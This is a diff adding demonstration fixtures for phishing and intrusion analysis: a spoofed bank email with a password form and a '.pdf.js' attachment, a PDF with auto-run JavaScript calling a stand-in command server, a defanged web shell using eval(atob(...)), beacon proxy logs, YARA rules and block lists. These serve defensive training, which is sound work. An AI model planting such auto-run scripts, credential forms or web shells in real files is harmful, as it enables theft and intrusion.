@@ -1,0 +1,135 @@
+/** Files for the demonstration; everybody and everything named in them is made up. */
+export const phishingMail = [
+  'Return-Path: <bounce@bulk-sender.example>',
+  'Received: from mx.corp.example (mx.corp.example [10.0.0.5])',
+  ' by mailbox.corp.example with LMTP; Mon, 02 Nov 2026 08:14:09 +0000',
+  'Received: from vps-77.hosting.example (unknown [198.51.100.77])',
+  ' by mx.corp.example (Postfix) with ESMTPS id 4F2; Mon, 02 Nov 2026 08:14:07 +0000 (UTC)',
+  'Authentication-Results: mx.corp.example; spf=softfail smtp.mailfrom=bulk-sender.example;',
+  ' dkim=none; dmarc=fail (p=none) header.from=example-bank.example',
+  'From: "security@example-bank.example" <notice@example-bank-login.test>',
+  'Reply-To: Helpdesk <collect@free-mail.example>',
+  'To: Accounting <accounting@corp.example>',
+  'Subject: Your account is blocked - act now',
+  'Date: Mon, 02 Nov 2026 09:14:00 +0100',
+  'Message-ID: <7f1@vps-77.hosting.example>',
+  'MIME-Version: 1.0',
+  'Content-Type: multipart/mixed; boundary="outer"',
+  '',
+  '--outer',
+  'Content-Type: text/html; charset=utf-8',
+  '',
+  '<p>Dear customer, sign in at <a href="http://198.51.100.23/login.php?x=1">',
+  'https://www.example-bank.example/secure</a> within 24 hours.</p>',
+  '<img src="https://track.bulk-sender.example/open.gif">',
+  '<form action="https://collect.example-bank-login.test/post"><input type="password"></form>',
+  '--outer',
+  'Content-Type: application/octet-stream; name="statement.pdf.js"',
+  'Content-Disposition: attachment; filename="statement.pdf.js"',
+  'Content-Transfer-Encoding: base64',
+  '',
+  Buffer.from(
+    '// harmless: made for a demonstration\nvar place = "hxxp://203.0.113.66/gate"\n',
+  ).toString('base64'),
+  '--outer--',
+  '',
+].join('\r\n')
+
+export const newsletter = [
+  'Received: from mail.friends.example (mail.friends.example [192.0.2.20]) by mx.corp.example;',
+  ' Tue, 03 Nov 2026 10:00:00 +0000',
+  'Authentication-Results: mx.corp.example; spf=pass; dkim=pass header.d=friends.example; dmarc=pass',
+  'From: Friends of Tea <news@friends.example>',
+  'To: everybody@corp.example',
+  'Subject: Tea of the month',
+  'Message-ID: <2@mail.friends.example>',
+  'Date: Tue, 03 Nov 2026 11:00:00 +0100',
+  '',
+  'Read it at https://tea.friends.example/month and enjoy.',
+  '',
+].join('\r\n')
+
+export const invoicePdf = [
+  '%PDF-1.7',
+  '1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >> endobj',
+  '2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj',
+  '3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >> endobj',
+  '4 0 obj << /Type /Action /S /JavaScript /JS (app.launchURL\\("http://203.0.113.66/gate"\\);) >> endobj',
+  'trailer << /Root 1 0 R /Size 5 >>',
+  '%%EOF',
+  '',
+].join('\n')
+
+export const proxyLog = Array.from(
+  { length: 40 },
+  (_, at) =>
+    `2026-11-02T08:${String(20 + (at % 30)).padStart(2, '0')}:11Z 10.20.0.${10 + (at % 6)} CONNECT ` +
+    ['beacon.update-check.test', 'cdn.corp.example', '203.0.113.66', 'www.example.org'][at % 4] +
+    ':443 200',
+).join('\n')
+
+export const webShell = [
+  '<!-- found in /uploads; shortened, it does nothing any more -->',
+  '<script>eval(atob("Ly8gaGFybWxlc3MsIG1hZGUgZm9yIGEgZGVtb25zdHJhdGlvbg=="))</script>',
+  '<form action="http://203.0.113.200/collect"><input name="cmd"></form>',
+  '',
+].join('\n')
+
+export const yaraRules = `rule Demo_Script_In_Disguise
+{
+  meta:
+    description = "A form or a script that runs encoded text"
+  strings:
+    $eval = "eval(atob(" nocase
+    $js = "/JavaScript"
+    $twice = ".pdf.js"
+  condition:
+    any of them
+}
+
+rule Demo_Beacon_Name
+{
+  meta:
+    description = "Names the beacon of the demonstration"
+  strings:
+    $name = "update-check.test"
+  condition:
+    $name
+}
+`
+
+export const blockList = [
+  '198.51.100.23, phishing kit',
+  '198.51.100.77, sends phishing mail',
+  '203.0.113.66, command and control',
+  'example-bank-login.test, imitates example-bank.example',
+  'beacon.update-check.test, command and control',
+  'http://203.0.113.66/gate, command and control',
+  'collect@free-mail.example, receives stolen passwords',
+]
+
+/** Known for a few days only: earlier reports of the same value say less. */
+export const laterBlocked = [
+  '203.0.113.200, collects from web shells',
+  '2001:db8:bad::66, second address of the command server',
+  'kq3v9zt1xw7pbd2.invalid, generated name of a botnet',
+  'http://198.51.100.140/wp-content/update.php, web shell',
+]
+
+export const watchList = [
+  '198.51.100.140, scans us since spring',
+  '192.0.2.99, many failed sign-ins',
+  '203.0.113.45, many failed sign-ins',
+  'files.transfer-now.test, used to carry data out',
+  'invoice_2026-11.pdf.js, file name of a campaign',
+  'notice@example-bank-login.test, sender of phishing',
+]
+
+export const allowList = [
+  'www.example.org, our own site',
+  'cdn.corp.example, our own',
+  'mail.corp.example, our own',
+  'corp.example, our own',
+  '10.0.0.5, our mail server',
+  '192.0.2.20, mail server of a partner',
+]
